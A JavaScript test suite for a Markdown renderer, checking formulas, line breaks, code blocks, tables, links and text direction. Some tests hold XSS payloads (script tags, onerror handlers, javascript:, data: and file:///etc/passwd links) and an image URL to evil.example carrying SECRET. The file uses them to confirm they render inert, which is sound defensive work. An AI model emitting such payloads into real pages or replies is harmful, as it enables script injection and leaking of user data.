import assert from "node:assert/strict";
import { test } from "node:test";
import { draw, grow } from "./page.js";

const formulas = (root) => [...root.querySelectorAll(".fg-math")].map((one) => one.dataset.formula);

for (const [name, text, expected] of [
  ["round brackets", "so \\(a_1 * b_2\\) is", ["a_1 * b_2"]],
  ["square brackets", "Then\n\\[\n\\sum_{k} x_k\n\\]\nholds", ["\\sum_{k} x_k"]],
  ["one dollar", "with $E = mc^2$, and $x$.", ["E = mc^2", "x"]],
  ["two dollars", "$$\na\n+ b\n$$", ["a\n+ b"]],
  ["two dollars on one line", "$$x^2$$", ["x^2"]],
  ["digits", "$2x$ and $0 < x$ and $5 \\times 3$", ["2x", "0 < x", "5 \\times 3"]],
  ["a table", "| a |\n| - |\n| $|x|$ |", ["|x|"]],
  ["a quote", "> $$\n> a\n> b\n> $$", ["a\nb"]],
  ["a list", "1. so\n\n   \\[\n   x\n   \\]", ["x"]],
  ["Chinese", "设$x$为", ["x"]],
]) test(`a formula in ${name}`, async () => {
  assert.deepEqual(formulas(await draw(text)), expected);
});

const drawn = (root) => root.innerHTML.replaceAll(/ (?:class|dir)="[^"]*"/g, "").replaceAll("\n", "");

for (const [name, text, expected] of [
  ["a poem", "Green *leaves\nfall* down\nhere", "<p>Green <em>leaves<br>fall</em> down<br>here</p>"],
  ["two spaces or a backslash", "a  \nb\\\nc", "<p>a<br>b<br>c</p>"],
  ["a quotation", "> a\n> b", "<blockquote><p>a<br>b</p></blockquote>"],
  ["an item, but not between items", "- a\n  b\n- c", "<ul><li><p>a<br>b</p></li><li><p>c</p></li></ul>"],
  ["behind a formula", "so $x$\nand", '<p>so <span data-formula="x">$x$</span><br>and</p>'],
  ["not around blocks", "# T\na\n\nb\n***\n", "<h1>T</h1><p>a</p><p>b</p><hr>"],
]) test(`one line's end is a break in ${name}`, async () => {
  for (const pieces of [[text], [...text]]) assert.equal(drawn((await grow(pieces)).root), expected);
});

test("code and tables have no breaks", async () => {
  const root = await draw("```\na\nb\n```\n\n| a |\n| - |\n| b |\n\n`c\nd`");
  assert.equal(root.querySelectorAll("pre, td, p > code").length, 3);
  assert.equal(root.querySelectorAll("br").length, 0);
});

for (const text of [
  "$5 and then $10", "costs $1,000", "costs $5/month ($60 a year)", "US$5 or A$6", "$5-$10", "I have $5, you have 10$", "\\$5 and \\$6$", "$HOME and $PATH",
  "$HOME/$USER", "between $ 5 and 6 $", "rated $$ and $$ here", "$$$", "$", "$$", "a $100M round, not $50M",
]) test(`money and shells stay letters: ${text}`, async () => {
  const root = await draw(text);
  assert.deepEqual(formulas(root), []);
  assert.equal(root.textContent, text.replaceAll("\\$", "$"));
});

for (const text of ["`$x$`", "`\\(x\\)`", "```\n$x$ \\[y\\]\n```", "    $x$"]) test(`code holds no formula: ${JSON.stringify(text)}`, async () => {
  const root = await draw(text);
  assert.deepEqual(formulas(root), []);
  assert.match(root.querySelector("code").textContent, /^(?:\$x\$|\\\(x\\\))/);
});

test("a formula that is not finished yet shows no marks of Markdown", async () => {
  const { document } = await import("./page.js");
  const { Growing } = await import("../src/markdown.js");
  const root = document.createElement("div");
  const growing = new Growing(root);
  growing.add("so\n\n\\[ a_1 * b_2 *");
  assert.equal(root.querySelector(".fg-math").textContent, "\\[ a_1 * b_2 *");
  assert.equal(root.querySelector("em"), null);
  await growing.end();
  assert.equal(root.querySelector(".fg-math"), null);
});

test("raw HTML is letters", async () => {
  const text = "<b>bold</b> <script>alert(1)</script>\n\n<div onclick=x>\n\n<!-- c -->\n\n<img src=x onerror=alert(1)>";
  const root = await draw(text);
  assert.equal(root.querySelectorAll("b, script, div, img").length, 0);
  assert.equal(root.textContent.replaceAll("\n", ""), text.replaceAll("\n", ""));
});

test("links lead to the web or to mail, in a tab of their own", async () => {
  const root = await draw("[a](https://a.b) [b](http://c.d 'T') <mailto:e@f.g> https://h.i www.j.k l@m.n [r][1]\n\n[1]: https://o.p");
  const links = [...root.querySelectorAll("a")];
  assert.deepEqual(links.map((link) => link.getAttribute("href")), [
    "https://a.b", "http://c.d", "mailto:e@f.g", "https://h.i", "http://www.j.k", "mailto:l@m.n", "https://o.p",
  ]);
  for (const link of links) assert.deepEqual([link.getAttribute("rel"), link.getAttribute("target")], ["noreferrer noopener", "_blank"]);
});

for (const [text, ...addresses] of [
  ['{"source":"https://a.b/c","next":"https://d.e/f?g=1"} so', "https://a.b/c", "https://d.e/f?g=1"],
  ['{\\"source\\":\\"https://a.b/c\\"}', "https://a.b/c"],
  ["{'a':'https://a.b/it's','k':1}", "https://a.b/it's"],
  ["{at: [https://a.b/c],n:1}", "https://a.b/c"],
  ["{at: [https://a.b/c]}", "https://a.b/c"],
  ["https://a.b/{id}/x, www.j.k", "https://a.b/%7Bid%7D/x", "http://www.j.k"],
]) test(`an address in the middle of data ends where it does: ${text}`, async () => {
  const root = await draw(text);
  assert.deepEqual([...root.querySelectorAll("a")].map((link) => link.getAttribute("href")), addresses);
  assert.equal(root.textContent.replaceAll("\\", ""), text.replaceAll("\\", ""));
});

for (const address of [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#x73;cript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "tel:1", "/session/end", "//evil.example", "#x",
  "<javascript:x>", "&#1;javascript:x", "blob:x", "https:", "ftp://a.b",
]) test(`no link to ${address}`, async () => {
  for (const text of [`[t](${address})`, `[t][1]\n\n[1]: ${address}`, `<${address}>`, `![t](${address})`, `[![t](${address})](${address})`]) {
    const root = await draw(text);
    assert.equal(root.querySelectorAll("a, img").length, 0, root.innerHTML);
    assert.notEqual(root.textContent.trim(), "");
  }
});

test("images are their text", async () => {
  const root = await draw("![a *cat*](https://evil.example/?q=SECRET) ![](https://x.y) ![r][1] [![in](https://a.b)](https://c.d)\n\n[1]: https://e.f");
  assert.equal(root.querySelector("img"), null);
  assert.deepEqual([...root.querySelectorAll(".fg-image")].map((one) => one.textContent), ["a cat", "https://x.y", "r", "in"]);
});

test("words between colons stay as they are", async () => {
  const text = ":smile: :material/home: :red[x] :streamlit:";
  assert.equal((await draw(text)).textContent, text);
});

test("a block of code says its language and can be copied and wrapped", async () => {
  const root = await draw("```py\nprint(1)\n```\n\n```\nplain\n```");
  const [first, second] = root.querySelectorAll(".fg-code");
  assert.equal(first.querySelector(".fg-code-language").textContent, "Python");
  assert.equal(first.querySelector("pre").getAttribute("tabindex"), "0");
  assert.deepEqual([...first.querySelectorAll("button")].map((one) => one.textContent), ["Wrap lines", "Copy"]);
  assert.equal(first.querySelector("[role=status]").textContent, "");
  assert.equal(second.querySelector(".fg-code-language").textContent, "");
  assert.equal(second.querySelector("pre").getAttribute("aria-label"), "Code");
  first.querySelector(".fg-wrap").click();
  assert.equal(first.querySelector(".fg-wrap").getAttribute("aria-pressed"), "true");
});

test("code gets its colours and keeps its letters", async () => {
  const root = await draw("```python\ndef f(x):\n    return '<b>' # no\n```");
  const code = root.querySelector("code");
  for (let turn = 0; turn < 100 && !code.querySelector("span"); turn++) await new Promise((resolve) => setTimeout(resolve, 20));
  assert.ok(code.querySelector(".fg-c-keyword"));
  assert.equal(code.textContent, "def f(x):\n    return '<b>' # no");
});

test("tables scroll by themselves and keep the sides of their columns", async () => {
  const root = await draw("| a | b | c |\n| :- | -: | :-: |\n| 1 | 2 |\n");
  const region = root.querySelector(".fg-table");
  assert.deepEqual([region.getAttribute("role"), region.getAttribute("tabindex"), region.getAttribute("aria-label")], ["group", "0", "Table"]);
  assert.deepEqual([...root.querySelectorAll("td")].map((cell) => cell.className), ["fg-left", "fg-right", "fg-center"]);
});

test("boxes of a task list cannot be ticked and say what they are", async () => {
  const root = await draw("- [x] a\n- [ ] b");
  const boxes = [...root.querySelectorAll("li.fg-task input")];
  assert.deepEqual(boxes.map((box) => [box.hasAttribute("disabled"), box.getAttribute("aria-label")]), [[true, "Done"], [true, "Not done"]]);
});

test("each block takes its direction from its own text", async () => {
  const root = await draw("# שלום\n\nمرحبا\n\n- a\n  - b\n\n> b\n\n```\nc\n```\n\n| a |\n|-|");
  const auto = [...root.querySelectorAll("[dir=auto]")].map((one) => one.tagName);
  assert.deepEqual(auto, ["H1", "P", "UL", "BLOCKQUOTE", "TH"]); // a block with a direction of its own does not count for one around it
  assert.equal(root.querySelector("pre").dir, "ltr");
});
